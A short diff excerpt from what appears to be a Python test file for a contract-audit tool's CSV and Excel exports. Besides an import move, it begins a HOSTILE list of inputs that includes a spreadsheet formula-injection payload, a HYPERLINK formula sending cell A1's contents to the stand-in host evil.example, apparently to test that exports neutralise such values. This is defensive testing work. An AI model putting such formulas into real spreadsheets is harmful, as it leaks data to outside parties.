@@ -13,9 +13,9 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from audit.core.atomic import OutputError
 from audit.models import AuditRun, Clause, ContractDoc, Deviation, Period, Term, TermValue
 from audit.notify.build import build_owner_emails
-from audit.report.atomic import OutputError
 from audit.report.tables import write_deviations_csv, write_deviations_xlsx, write_terms_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"details")', "+31 6 12345678 bellen",
